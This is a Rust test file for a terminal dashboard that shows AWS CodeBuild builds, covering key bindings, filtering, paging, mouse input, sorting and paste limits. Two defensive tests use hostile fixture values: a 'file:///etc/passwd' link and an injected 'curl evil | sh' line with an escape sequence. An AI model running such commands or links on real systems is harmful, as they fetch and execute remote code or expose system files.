//! Key bindings and API answers through the pure update: no terminal, no network.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers, MouseButton, MouseEvent, MouseEventKind};

use crate::common::fixtures::{
    actions, build, code, key, mixed, selected_id, state_with, state_with_history,
};
use cbdash::app::{apply, update, Effect, ListRequest, Msg, Pane, Purpose};
use cbdash::domain::Status;
use cbdash::domain::{Fetched, ListPage};

#[test]
fn selection_stays_on_the_same_build_when_a_poll_inserts_rows() {
    let mut state = state_with(mixed());
    update(&mut state, key('j'));
    update(&mut state, key('j'));
    let chosen = selected_id(&state);
    assert!(chosen.starts_with("data-pipeline:"), "{chosen}");

    // Two newer builds arrive above, and the chosen one changes status.
    let mut finished = state.store.get(&chosen).cloned().expect("known build");
    finished.status = Status::Succeeded;
    finished.complete = true;
    apply(
        &mut state,
        Fetched {
            builds: vec![
                build("web-frontend", 413, 0, Status::InProgress),
                build("api-service", 1089, 1, Status::InProgress),
                finished,
            ],
            not_found: vec![],
        },
    );
    assert_eq!(selected_id(&state), chosen);
    assert_eq!(state.list.cursor(), 4);
    assert_eq!(
        state.store.get(&chosen).map(|b| b.status.clone()),
        Some(Status::Succeeded)
    );
}

#[test]
fn filter_narrows_by_project_status_and_initiator_and_esc_clears() {
    let mut state = state_with(mixed());
    update(&mut state, key('/'));
    for c in "fail".chars() {
        update(&mut state, key(c));
    }
    assert_eq!(state.list.len(), 1);
    assert!(selected_id(&state).starts_with("api-service:"));
    // Enter keeps the filter and leaves editing; keys move again.
    update(&mut state, code(KeyCode::Enter));
    assert!(!state.filter_editing);
    assert_eq!(state.filter, "fail");
    update(&mut state, code(KeyCode::Esc));
    assert_eq!(state.list.len(), 6);
    assert!(
        selected_id(&state).starts_with("api-service:"),
        "selection survives clearing"
    );

    update(&mut state, key('/'));
    for c in "ALICE".chars() {
        update(&mut state, key(c));
    }
    assert_eq!(state.list.len(), 6, "initiator matches case-insensitively");
    update(&mut state, code(KeyCode::Esc));
    assert!(state.filter.is_empty());
}

#[test]
fn filter_typing_does_not_trigger_bindings() {
    let mut state = state_with(mixed());
    update(&mut state, key('/'));
    let effects = update(&mut state, key('q'));
    assert!(effects.is_empty());
    assert!(!state.quit);
    assert_eq!(state.filter, "q");
}

#[test]
fn moving_past_the_last_row_loads_the_next_history_page() {
    // The first discovery page said there is more.
    let mut state = state_with_history(mixed(), Some("page-2"));
    update(&mut state, key('G'));
    let effects = update(&mut state, key('j'));
    assert_eq!(
        effects,
        vec![Effect::List(ListRequest {
            resource: cbdash::app::Resource::Builds,
            project: None,
            next_token: Some("page-2".into()),
            purpose: Purpose::History,
            running_only: false,
        })]
    );
    // A second press while loading sends nothing more.
    assert!(update(&mut state, key('j')).is_empty());

    let effects = update(
        &mut state,
        Msg::Listed {
            request: ListRequest {
                resource: cbdash::app::Resource::Builds,
                project: None,
                next_token: Some("page-2".into()),
                purpose: Purpose::History,
                running_only: false,
            },
            result: Ok(ListPage {
                ids: vec!["old:1".into(), "old:2".into()],
                next_token: None,
            }),
        },
    );
    assert_eq!(
        effects,
        vec![Effect::Fetch {
            purpose: Purpose::History,
            ids: vec!["old:1".into(), "old:2".into()]
        }]
    );
}

#[test]
fn open_and_copy_act_on_the_selected_link() {
    let mut state = state_with(mixed());
    let effects = actions(update(&mut state, key('o')));
    let deep_link = state
        .selected_build()
        .and_then(|b| b.logs.deep_link.clone())
        .expect("link");
    assert_eq!(effects, vec![Effect::OpenUrl(deep_link.clone())]);
    assert_eq!(update(&mut state, key('y')), vec![Effect::Copy(deep_link)]);

    // In the links pane, the build ARN is copied but not opened.
    update(&mut state, code(KeyCode::Tab));
    update(&mut state, code(KeyCode::Tab));
    assert_eq!(state.focus, Pane::Links);
    update(&mut state, key('G'));
    let arn = state
        .selected_build()
        .and_then(|b| b.arn.clone())
        .expect("arn");
    assert!(update(&mut state, key('o')).is_empty());
    assert!(state
        .notice
        .as_ref()
        .is_some_and(|n| n.error && n.text.contains("Build ARN")));
    assert_eq!(update(&mut state, key('y')), vec![Effect::Copy(arn)]);
}

#[test]
fn panes_cycle_and_enter_focuses_details() {
    let mut state = state_with(mixed());
    update(&mut state, code(KeyCode::Enter));
    assert_eq!(state.focus, Pane::Phases);
    update(&mut state, code(KeyCode::Esc));
    assert_eq!(state.focus, Pane::Builds);
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::BackTab, KeyModifiers::SHIFT)),
    );
    assert_eq!(state.focus, Pane::Links);
    update(&mut state, code(KeyCode::Tab));
    assert_eq!(state.focus, Pane::Builds);
}

#[test]
fn help_opens_and_any_key_closes_it() {
    let mut state = state_with(mixed());
    update(&mut state, key('?'));
    assert!(state.overlay.help_shown());
    update(&mut state, key('j'));
    assert!(!state.overlay.help_shown());
    assert!(
        selected_id(&state).starts_with("web-frontend:"),
        "the closing key does nothing else"
    );
}

#[test]
fn quit_with_q_or_ctrl_c() {
    let mut state = state_with(mixed());
    assert_eq!(actions(update(&mut state, key('q'))), vec![Effect::Quit]);
    let mut state = state_with(mixed());
    actions(update(&mut state, key('/')));
    let ctrl_c = Msg::Key(KeyEvent::new(KeyCode::Char('c'), KeyModifiers::CONTROL));
    assert_eq!(
        update(&mut state, ctrl_c),
        vec![Effect::Quit],
        "even while filtering"
    );
}

#[test]
fn click_selects_the_row_under_the_pointer_and_wheel_scrolls() {
    let mut state = state_with(mixed());
    // Header line, pane border and column header come first: row 3 is the first build.
    let click = |row| {
        Msg::Mouse(MouseEvent {
            kind: MouseEventKind::Down(MouseButton::Left),
            column: 10,
            row,
            modifiers: KeyModifiers::NONE,
        })
    };
    update(&mut state, click(5));
    assert!(selected_id(&state).starts_with("data-pipeline:"));
    update(&mut state, click(40));
    assert_eq!(state.focus, Pane::Phases);
    let wheel = Msg::Mouse(MouseEvent {
        kind: MouseEventKind::ScrollDown,
        column: 10,
        row: 4,
        modifiers: KeyModifiers::NONE,
    });
    update(&mut state, wheel);
    assert_eq!(state.focus, Pane::Builds);
    assert!(
        selected_id(&state).starts_with("docs-site:"),
        "three rows down"
    );
}

#[test]
fn page_keys_and_top_bottom_move_by_screenfuls() {
    let builds = (0..100)
        .map(|n| build("api-service", 1000 + n, n, Status::Succeeded))
        .collect();
    let mut state = state_with(builds);
    let page = state.visible_rows();
    assert!(page > 5);
    update(&mut state, code(KeyCode::PageDown));
    assert_eq!(state.list.cursor(), page);
    assert!(
        state.list.offset() > 0,
        "the list scrolled to keep the cursor visible"
    );
    update(&mut state, key('G'));
    assert_eq!(state.list.cursor(), 99);
    update(&mut state, key('g'));
    assert_eq!((state.list.cursor(), state.list.offset()), (0, 0));
}

#[test]
fn s_sorts_by_duration_status_and_project_and_back() {
    let mut state = state_with(mixed());
    let order = |state: &cbdash::app::State| -> Vec<String> {
        state
            .list
            .rows()
            .iter()
            .filter_map(|r| state.store.get(r.id()))
            .map(|b| b.project.clone())
            .collect()
    };
    let newest = order(&state);
    update(&mut state, key('S'));
    let by_duration = order(&state);
    assert_eq!(by_duration[0], "data-pipeline", "52 minutes and counting");
    update(&mut state, key('S'));
    let by_status = order(&state);
    assert_eq!(
        &by_status[..2],
        ["web-frontend", "data-pipeline"],
        "running first"
    );
    assert_eq!(by_status[2], "api-service", "then failures");
    update(&mut state, key('S'));
    let by_project = order(&state);
    let mut sorted = by_project.clone();
    sorted.sort();
    assert_eq!(by_project, sorted);
    update(&mut state, key('S'));
    assert_eq!(order(&state), newest);
}

#[test]
fn keys_rebound_in_the_config_replace_the_defaults_and_show_in_help() {
    use cbdash::app::keymap::{action_named, Override};
    for name in cbdash::config::ACTIONS {
        assert!(
            action_named(name).is_some(),
            "the config's action {name} is known"
        );
    }
    let mut state = state_with(mixed());
    state.settings.keys = vec![Override {
        action: action_named("stop").expect("stop"),
        code: KeyCode::Char('x'),
        modifiers: KeyModifiers::CONTROL,
    }];
    update(&mut state, key('x'));
    assert!(
        state.overlay.confirm().is_none(),
        "the default key is released"
    );
    update(
        &mut state,
        Msg::Key(KeyEvent::new(KeyCode::Char('x'), KeyModifiers::CONTROL)),
    );
    assert!(state.overlay.confirm().is_some(), "the new key stops");
    update(&mut state, key('n'));
    update(&mut state, key('?'));
    let frame = crate::common::render::screen(&state, 120, 40);
    assert!(frame.contains("Ctrl-X  stop the selected build"), "{frame}");
}

#[test]
fn open_refuses_links_that_are_not_the_aws_console() {
    let mut b =
        crate::common::fixtures::build("web-frontend", 1, 2, cbdash::domain::Status::Failed);
    b.logs.deep_link = Some("file:///etc/passwd".into());
    let mut state = state_with(vec![b]);
    let effects = update(&mut state, key('o'));
    assert!(
        !effects.iter().any(|e| matches!(e, Effect::OpenUrl(_))),
        "{effects:?}"
    );
    let notice = state.notice.expect("a notice says why");
    assert!(
        notice.text.contains("not opened: only https links"),
        "{}",
        notice.text
    );
}

#[test]
fn copy_puts_on_the_clipboard_only_the_text_shown() {
    let mut b =
        crate::common::fixtures::build("web-frontend", 1, 2, cbdash::domain::Status::Failed);
    b.logs.deep_link = Some("https://console.aws.amazon.com/x\ncurl evil | sh\u{1b}[8m".into());
    let mut state = state_with(vec![b]);
    let effects = update(&mut state, key('y'));
    let copied: Vec<&String> = effects
        .iter()
        .filter_map(|e| match e {
            Effect::Copy(text) => Some(text),
            _ => None,
        })
        .collect();
    assert_eq!(copied.len(), 1);
    assert!(!copied[0].chars().any(char::is_control), "{:?}", copied[0]);
}

#[test]
fn a_paste_is_one_event_into_the_filter_cut_at_its_limit() {
    let mut state = state_with(mixed());
    update(&mut state, key('/'));
    update(&mut state, Msg::Paste("web\nfront".into()));
    assert_eq!(state.filter, "web front", "line breaks become spaces");
    update(&mut state, code(crossterm::event::KeyCode::Esc));
    update(&mut state, key('/'));
    let huge = "x".repeat(100_000);
    update(&mut state, Msg::Paste(huge));
    assert_eq!(state.filter.chars().count(), cbdash::app::PASTE_LIMIT);
    let notice = state.notice.clone().expect("the cut is said");
    assert!(
        notice
            .text
            .contains("at most 4096 characters; 95904 of the 100000 pasted were left out"),
        "{}",
        notice.text
    );
}

#[test]
fn a_paste_goes_into_the_forms_focused_text_and_nowhere_else() {
    let mut state = state_with(mixed());
    update(&mut state, Msg::Paste("ignored".into()));
    assert!(state
        .notice
        .as_ref()
        .is_some_and(|n| n.text.contains("nothing here takes pasted text")));
    update(&mut state, key('s'));
    assert!(state.overlay.form().is_some(), "the relaunch form is open");
    update(&mut state, Msg::Paste("-pasted-by-alice".into()));
    let frame = crate::common::render::screen(&state, 160, 45);
    assert!(frame.contains("-pasted-by-alice"), "{frame}");
    assert!(state.overlay.form().is_some(), "a paste never submits");
}

#[test]
fn a_100_kb_paste_is_one_field_value_cut_at_the_fields_limit() {
    let mut state = state_with(mixed());
    update(&mut state, key('s'));
    let source_version = |state: &cbdash::app::State| {
        state
            .overlay
            .form()
            .and_then(|f| f.values().ok())
            .and_then(|(o, _)| o.source_version)
            .unwrap_or_default()
    };
    let before = source_version(&state);
    assert!(!before.is_empty(), "prefilled from the build");
    let pasted: String = (0..102_400u32)
        .map(|i| char::from(b'a' + (i % 26) as u8))
        .collect();
    update(&mut state, Msg::Paste(pasted.clone()));
    let after = source_version(&state);
    assert_eq!(after.chars().count(), 1024, "source version's limit");
    let kept = 1024 - before.chars().count();
    assert_eq!(after, format!("{before}{}", &pasted[..kept]));
    let notice = state.notice.clone().expect("the cut is said");
    assert!(notice.error);
    assert!(
        notice.text.contains(&format!(
            "source version takes at most 1024 characters; {} of the 102400 pasted were left out",
            102_400 - kept
        )),
        "{}",
        notice.text
    );
}

#[test]
fn the_stop_question_follows_the_build_while_it_is_open() {
    let running =
        crate::common::fixtures::build("web-frontend", 7, 3, cbdash::domain::Status::InProgress);
    let mut state = state_with(vec![running.clone()]);
    update(&mut state, key('x'));
    let lines = state.overlay.confirm().expect("asked").lines.join(" ");
    assert!(lines.contains("IN_PROGRESS"), "{lines}");
    let mut done = running;
    done.status = cbdash::domain::Status::Succeeded;
    done.complete = true;
    cbdash::app::apply(
        &mut state,
        cbdash::domain::Fetched {
            builds: vec![done],
            not_found: vec![],
        },
    );
    let lines = state
        .overlay
        .confirm()
        .expect("still asked")
        .lines
        .join(" ");
    assert!(
        lines.contains("SUCCEEDED") && !lines.contains("IN_PROGRESS"),
        "{lines}"
    );
    assert!(lines.contains("finished meanwhile"), "{lines}");
}
